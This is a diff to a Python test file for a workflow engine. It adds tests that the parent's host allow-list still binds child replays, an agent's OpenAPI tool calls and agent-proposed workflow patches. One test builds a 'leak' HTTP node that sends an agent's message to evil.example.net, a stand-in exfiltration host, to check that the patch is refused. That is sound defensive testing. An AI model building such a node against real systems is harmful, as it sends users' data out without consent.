@@ -115,6 +115,11 @@ def test_a_child_workflow_s_requests_stay_on_its_parent_s_list(engine, api, user
     assert child.hosts_above == [["api.example.com"]]
     error = NodeRun.objects.get(run=child, node_id="get").error
     assert (error["rule"], error["host"]) == ("host_not_allowed", "127.0.0.1")
+    # its owner's replay of the child is still bound by the parent's list
+    replay = api.post(f"/api/v1/runs/{child.pk}/nodes/get/replay", {}, format="json")
+    assert replay.status_code == 201, replay.json()
+    again = wait_for_run(replay.json()["run_id"])
+    assert (again.status, again.hosts_above) == ("failed", [["api.example.com"]])
     assert remote.hits("/echo/child") == []
 
     run, _ = finished(start(api, nodes, None, inputs))
@@ -137,3 +142,57 @@ def test_a_wildcard_names_host_names_and_a_list_that_is_no_list_allows_nothing()
         ("a.example",), ("b.example",), ())  # what is no list allows nothing
     assert egress.binding({}, '[["b.example"]]') == ((),) and egress.binding({}, None) == ()
     assert egress.refusing("a.example", (("a.example",), ("b.example",))) == ("b.example",)
+
+
+def test_an_agent_s_api_call_stays_on_the_list_and_the_operator_s_document_loads_whatever_it_says(
+        engine, api, user, fake_llm, remote):
+    """``openapi_action`` calls the registered API (the remote) as any request of the run: off the
+    list, refused, the model told the rule. The API's document is the operator's registration, kept
+    by the process for every run: it loads whatever a run's list says (else it loaded or not by which
+    run a worker served first)."""
+    from agents.tools import openapi
+    from workers.http import SSRFBlocked, request
+    from workflows import egress
+
+    call = {"api": "remote", "operation_id": "getItem", "parameters": {"item_id": "7"}}
+    fake_llm.reset([{"tool_calls": [("openapi_action", call)]}, {"content": "done"}])
+
+    run, _ = finished(start(api, [agent(tools=["openapi_action"])], ["api.example.com"]))
+
+    assert run.status == "completed", run.error
+    result = tool_messages(fake_llm.requests[1])[0]
+    assert (result["status"], result["rule"]) == ("error", "host_not_allowed")
+    assert remote.hits("/echo") == []
+
+    remote.script("spec", [{"openapi": "3.0.0", "paths": {}}])
+    openapi._load.cache_clear()
+    with egress.only((("api.example.com",),)):
+        assert openapi._load(f"{remote.base}/seq/spec") == {"openapi": "3.0.0", "paths": {}}
+        try:
+            request(method="GET", url=f"{remote.base}/echo/inside")
+        except SSRFBlocked as exc:
+            assert exc.rule == "host_not_allowed"
+        else:
+            raise AssertionError("a request inside the list's context went to a host off it")
+    openapi._load.cache_clear()
+    assert remote.hits("/echo/inside") == []
+
+
+def test_a_child_s_patch_is_judged_by_its_parents_lists_too():
+    """The early refusal reads the same lists as the send: the run's own and those above it."""
+    import pytest
+
+    from workflows.services.patches import PatchRejected
+    from workflows.services.patches.policy import Proposer, RunState, judge
+
+    before = {"nodes": [agent(tools=["patch_workflow"])], "edges": []}
+    leak = add_after("plan", http("leak", "https://evil.example.net/${nodes.plan.message}"))
+    running = {"statuses": {"plan": "running"}, "history": frozenset({"plan"})}
+
+    with pytest.raises(PatchRejected) as refused:
+        judge(before=before, operations=leak, proposer=Proposer(agent=True, node_id="plan"),
+              state=RunState(**running, hosts_above=[["api.example.com"]]))
+    assert (refused.value.extra["rule"], refused.value.extra["op"], refused.value.extra["host"]) == (
+        "host_not_allowed", 0, "evil.example.net")
+    assert judge(before=before, operations=leak, proposer=Proposer(agent=True, node_id="plan"),
+                 state=RunState(**running)).after["nodes"][-1]["id"] == "leak"
